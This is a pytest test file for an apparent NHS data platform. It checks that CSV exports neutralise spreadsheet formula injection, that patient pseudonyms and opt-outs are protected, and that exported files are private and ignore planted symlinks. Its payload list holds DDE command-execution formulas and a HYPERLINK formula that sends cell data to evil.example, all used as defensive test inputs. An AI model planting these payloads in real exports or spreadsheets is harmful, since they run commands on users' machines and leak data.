"""Exports safe to open and records by purpose, on a tiny lake whose names and addresses are
formula-injection payloads: no exported cell a spreadsheet would run, no pseudonym beside an
NHS number in anything a clinician sees, and an analyst probing an opted-out patient's id gets
the answer an unknown id gets (audited, saying which)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pandas as pd
import pyarrow as pa
import pytest
from fastapi.testclient import TestClient
from hypothesis import given, settings
from hypothesis import strategies as st

from icsight.appdb import Accounts
from icsight.governance.access import AccessDeniedError, Principal, Role
from icsight.lake import write_table
from icsight.model.schema import TABLES
from icsight.services import NotFoundError, Service
from icsight.services.records import FORMULA_TRIGGERS, spreadsheet_safe, spreadsheet_safe_csv
from tests.accounts import SECRET
from tests.lakes import PRACTICE, event, make_lake, patient

#: Payloads from the OWASP CSV Injection page and the DDE advisories, and their disguises.
CORPUS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "+cmd|' /C notepad'!A0", " =1+1", "  @x", "\n=1+1", "\u00a0=1",
    "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")", "'=already quoted", "\"=quoted\"",
    "O'Brien", "Smith, =Jones", "Ann\r\n=Lee", "-", "=", "@", "+44 20 7946 0000",
]
OPTED_OUT, KEPT, UNKNOWN = 7002, 7001, 7999
NHS = {KEPT: "9000000009", OPTED_OUT: "9000000017"}


def _parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _assert_safe(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert cell[:1] not in FORMULA_TRIGGERS, cell
            assert cell.lstrip()[:1] not in FORMULA_TRIGGERS, cell


@pytest.mark.parametrize("payload", CORPUS)
def test_every_payload_is_neutralised_and_kept_readable(payload):
    safe = spreadsheet_safe(payload)
    assert safe in (payload, "'" + payload)  # nothing lost: a quote added, or nothing
    _assert_safe([[safe]])


def test_an_ordinary_cell_is_left_alone():
    for text in ("Smith", "MK40 1AA", "1960-01-01", "9000000009", "", "O'Brien"):
        assert spreadsheet_safe(text) == text


@settings(max_examples=100, deadline=None)
@given(st.lists(st.tuples(st.text(max_size=20), st.text(max_size=20),
                          st.one_of(st.none(), st.text(max_size=30))), max_size=6))
def test_no_cell_of_any_export_starts_with_a_trigger_once_parsed_back(rows):
    frame = pd.DataFrame(rows, columns=["given_name", "family_name", "address_line"],
                         dtype=object)
    text = spreadsheet_safe_csv(frame)
    parsed = _parse(text)
    assert len(parsed) == len(rows) + 1  # a quoted line break does not split a record
    _assert_safe(parsed)
    for original, back in zip(rows, parsed[1:], strict=True):
        for value, cell in zip(original, back, strict=True):
            assert cell in ("" if value is None else value, "'" + (value or ""))
    again = io.StringIO()
    csv.writer(again, quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerows(parsed)
    assert again.getvalue() == text  # every field quoted


@pytest.fixture(scope="module")
def lake(tmp_path_factory):
    folder = tmp_path_factory.mktemp("exports") / "lake"
    people = [patient(KEPT), patient(OPTED_OUT, data_opt_out=True)]
    people += [patient(8000 + i) for i in range(len(CORPUS))]
    make_lake(folder, people, [event(KEPT, "2024-05-01", "38341003"),
                               event(OPTED_OUT, "2024-05-01", "38341003")])
    identifiers = [{"patient_id": KEPT, "nhs_number": NHS[KEPT], "given_name": "Ann",
                    "family_name": "Lee", "date_of_birth": dt.date(1960, 1, 2)},
                   {"patient_id": OPTED_OUT, "nhs_number": NHS[OPTED_OUT], "given_name": "Bo",
                    "family_name": "Opted", "date_of_birth": dt.date(1961, 3, 4)}]
    for i, payload in enumerate(CORPUS):  # each payload in every free-text field
        identifiers.append({"patient_id": 8000 + i, "nhs_number": f"90000{i:05d}",
                            "given_name": payload, "family_name": payload,
                            "address_line": payload, "postcode": payload,
                            "date_of_birth": dt.date(1970, 1, 1)})
    write_table(folder, "person_identifiers",
                pa.Table.from_pylist(identifiers, schema=TABLES["person_identifiers"].schema))
    return folder


@pytest.fixture(scope="module")
def service(lake):
    """One service for the module, as a server keeps one: its engines open once."""
    return Service(lake, lake.parent / "results", lake.parent / "audit.jsonl")


def _written_during(service, call) -> list[dict]:
    """The audit entries written while `call()` ran."""
    before = len(service.audit_log.read_text().splitlines()) if service.audit_log.exists() else 0
    call()
    return [json.loads(line) for line in service.audit_log.read_text().splitlines()[before:]]


CLINICIAN = Principal("cli", Role.CLINICIAN, practice_code=PRACTICE)
ANALYST = Principal("ana", Role.ANALYST)


def test_the_clinicians_export_is_safe_and_carries_no_pseudonym(service):
    exported = []
    log = _written_during(service, lambda: exported.append(
        service.identifiable_export(CLINICIAN, PRACTICE)))
    rows = _parse(exported[0])
    header, body = rows[0], rows[1:]
    assert "patient_id" not in header and "nhs_number" in header
    assert len(body) == 2 + len(CORPUS)  # everyone registered, opt-outs included
    _assert_safe(rows)
    nhs = {row[header.index("nhs_number")] for row in body}
    assert set(NHS.values()) <= nhs
    pseudonyms = {str(p) for p in (KEPT, OPTED_OUT, *range(8000, 8000 + len(CORPUS)))}
    assert not pseudonyms & {cell for row in body for cell in row}
    assert [e["action"] for e in log] == ["records.identifiable.export"]


def test_no_pseudonym_in_a_clinicians_list_or_record(service):
    listed = service.practice_patients(CLINICIAN, PRACTICE)
    assert listed and all("patient_id" not in p and "nhs_number" in p for p in listed)
    assert NHS[OPTED_OUT] in {p["nhs_number"] for p in listed}  # direct care: not left out
    one = service.identifiable_record(CLINICIAN, OPTED_OUT)
    assert "patient_id" not in one and one["nhs_number"] == NHS[OPTED_OUT]


def test_an_analyst_probing_an_opted_out_id_gets_the_unknown_ids_answer(service):
    assert service.patient_record(ANALYST, KEPT)["clinical_events"]
    answers = []

    def probe():
        for pid in (OPTED_OUT, UNKNOWN, 2**63):
            with pytest.raises(NotFoundError) as e:
                service.patient_record(ANALYST, pid)
            answers.append((type(e.value), str(e.value).replace(str(pid), "ID")))

    log = _written_during(service, probe)
    assert len(set(answers)) == 1
    assert [(e["action"], e["resource"], e["detail"]) for e in log] == [
        ("records.pseudonymised", f"patient {OPTED_OUT}",
         "not found: national data opt-out (purpose: planning)"),
        ("records.pseudonymised", f"patient {UNKNOWN}", "not found: no such patient "
                                                        "(purpose: planning)"),
        ("records.pseudonymised", f"patient {2**63}", "not found: not a patient id "
                                                      "(purpose: planning)")]


@settings(max_examples=25, deadline=None)
@given(st.integers(min_value=-(2**63), max_value=2**63 - 1))
def test_no_unknown_id_answers_differently_from_an_opted_out_one(service, pid):
    if pid == KEPT or 8000 <= pid < 8000 + len(CORPUS):
        return
    with pytest.raises(NotFoundError) as e:
        service.patient_record(ANALYST, pid)
    assert str(e.value) == f"no patient {pid}"


def test_nobody_else_reads_an_analysts_record_and_clinicians_are_not_left_out(service):
    with pytest.raises(AccessDeniedError):
        service.patient_record(CLINICIAN, OPTED_OUT)
    assert service.planning_extract(ANALYST, "patients")
    assert OPTED_OUT not in {p["patient_id"] for p in service.planning_extract(ANALYST)}


def test_the_http_export_is_a_safe_csv_download(service, tmp_path):
    from icsight.api.app import create_app

    accounts = Accounts(f"sqlite:///{tmp_path / 'icsight.db'}")
    accounts.add("cli", "correct horse battery staple", "clinician", practice_code=PRACTICE)
    client = TestClient(create_app(service, accounts, SECRET, dev=True))
    token = client.get("/api/v1/session").json()["csrf_token"]
    signed = client.post("/api/v1/login", json={"username": "cli",
                                             "password": "correct horse battery staple"},
                         headers={"X-CSRF-Token": token})
    assert signed.status_code == 200
    got = client.get(f"/api/v1/practices/{PRACTICE}/export.csv")
    assert got.status_code == 200 and got.headers["content-type"].startswith("text/csv")
    assert got.headers["content-disposition"] == \
        f'attachment; filename="patients-{PRACTICE}.csv"'
    rows = _parse(got.text)
    assert "patient_id" not in rows[0] and len(rows) == 3 + len(CORPUS)
    _assert_safe(rows)


def test_synthetic_exports_are_private_from_the_start(lake, tmp_path, monkeypatch):
    import os
    import stat

    from icsight.synth.export import write_csv, write_fhir

    stale = tmp_path / "again"
    stale.mkdir()
    (stale / "patients.csv").write_text("old")
    os.chmod(stale / "patients.csv", 0o644)  # an earlier export's, world-readable
    monkeypatch.setattr(os, "chmod", lambda *a, **k: pytest.fail("made private after the fact"))
    old = os.umask(0)  # whatever the umask, the modes come from the calls that create them
    try:
        files = [*write_csv(lake, tmp_path / "csv"), *write_fhir(lake, tmp_path / "fhir"),
                 *write_csv(lake, stale)]
    finally:
        os.umask(old)
    assert files and {stat.S_IMODE(f.stat().st_mode) for f in files} == {0o600}
    for folder in (tmp_path / "csv", tmp_path / "fhir"):
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    patients = _parse((tmp_path / "csv" / "patients.csv").read_text())
    assert len(patients) == 3 + len(CORPUS) and "nhs_number" in patients[0]


def test_an_export_does_not_follow_a_symlink_planted_in_its_folder(lake, tmp_path):
    from icsight.synth.export import write_csv

    target = tmp_path / "elsewhere"
    target.write_text("untouched")
    out = tmp_path / "out"
    out.mkdir()
    (out / "patients.csv").symlink_to(target)
    with pytest.raises(OSError):
        write_csv(lake, out)
    assert target.read_text() == "untouched"
